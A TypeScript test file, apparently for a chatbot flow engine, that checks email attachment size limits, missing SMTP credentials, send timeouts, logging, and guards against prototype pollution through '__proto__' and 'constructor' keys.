        id === 'abc' ? Readable.from([Buffer.alloc(bytes, 1)]) : undefined,
      store: async () => 'not asked for',
    })
    const block = mail({ attachmentsVariableId: idOf('List') })
    const values = { ...given({ List: [address, 'https://f.test/b.png'] }), hasMail: true }
    const reply: OutboundResponse = {
      ok: true,
      status: 200,
      contentType: '',
      headers: {},
      body: Buffer.of(2),
    }
    const client = await runBlock(block, { ...values, reply, uploads: uploads(2_000_000) })
    expect(client.requests.map(({ url }) => url)).toEqual(['https://f.test/b.png'])
    const [report, picture] = client.mails[0]?.attachments ?? []
    expect([report?.filename, Buffer.alloc(2_000_000, 1).equals(report?.content ?? Buffer.of())]).toEqual([
      'report.pdf',
      true,
    ])
    expect(picture).toEqual({ filename: 'b.png', content: Buffer.of(2) })
    const most = boundNamed('MAX_ATTACHMENTS_BYTES')
    const namesWith = async (bytes: number) => {
      const client = await runBlock(block, { ...values, reply, uploads: uploads(bytes) })
      const isLeftOut = client.logged('attachment')?.details?.includes('together') ?? false
      return [client.mails[0]?.attachments?.map(({ filename }) => filename), isLeftOut]
    }
    expect(await namesWith(most - 1)).toEqual([['report.pdf', 'b.png'], false])
    expect(await namesWith(most)).toEqual([['report.pdf'], true])
    expect(await namesWith(most + 1)).toEqual([['b.png'], true])
  })

  test('is not sent by an account that the workspace does not have', async () => {
    const client = await runBlock(mail({ credentialsId: 'gone' }), { hasMail: true })
    expect(client.mails).toEqual([])
    expect(client.logged('"gone" of type smtp')).toMatchObject({ status: 'error', isInternal: true })
    const usual = await runBlock(mail({ credentialsId: 'default' }), { hasMail: true })
    expect(usual.mails).toHaveLength(1)
  })

  test('has the remaining time of the turn as its timeout', async () => {
    const times: number[] = []
    const client = await runBlock(mail({ credentialsId: 'account' }), {
      options: { limits: { milliseconds: 5_000 } },
      findCredentials: async () => ({}),
      sendEmailBy: async (_account, _mail, milliseconds) => void times.push(milliseconds),
    })
    expect(client.logged('was sent')).toBeDefined()
    expect(times).toEqual([expect.any(Number)])
    expect(times[0]).toBeLessThanOrEqual(5_000)
  })

  test('logs failures, previews and missing recipients', async () => {
    const failed = await runBlock(mail({}), { hasMail: true, mailError: 'refused' })
    expect(failed.logged('could not be sent')).toMatchObject({ status: 'error', details: 'refused' })
    const preview = await runBlock(mail({}), { hasMail: true, options: { resultId: null } })
    expect(preview.mails).toEqual([])
    expect(preview.logged('previews')).toBeDefined()
    const nobody = await runBlock(mail({ recipients: ['{{A}}'] }), { hasMail: true })
    expect(nobody.logged('no valid recipient')).toBeDefined()
  })
})

test.each(['something new', 'constructor', '__proto__'])('%s is skipped with a log entry', async (type) => {
  const client = await runBlock({ type, options: { action: 'x' } })
  expect(client.texts()).toEqual(['A is '])
  expect(client.logged('does not run such blocks')).toMatchObject({
    status: 'error',
    context: 'x',
    isInternal: true,
  })
})

test('session variables stay out of the result, values become text, and types of documents do not matter', async () => {
  const flow = bot({ a: [ask()] })
  flow.variables = [
    { id: 'v1', name: 'S', isSessionVariable: true, value: 's' },
    { id: 'v2', name: 'N', value: 5 },
    { id: 'v3', name: 'L', value: ['a', 1, null] },
    { id: 'v4', name: 'E' },
    { id: '__proto__', name: 'P', value: 'p' },
    { name: 'no id' },
    null,
    'x',
  ]
  const client = await chat(flow, given({ E: { a: 1 }, Unknown: 'x', N: 6 }))
  expect(client.outcome.variables).toEqual([
    { id: 'v2', name: 'N', value: '6' },
    { id: 'v3', name: 'L', value: ['a', '1', null] },
    { id: 'v4', name: 'E', value: '{"a":1}' },
    { id: '__proto__', name: 'P', value: 'p' },
  ])
  expect(({} as Record<string, unknown>).P).toBeUndefined()
})
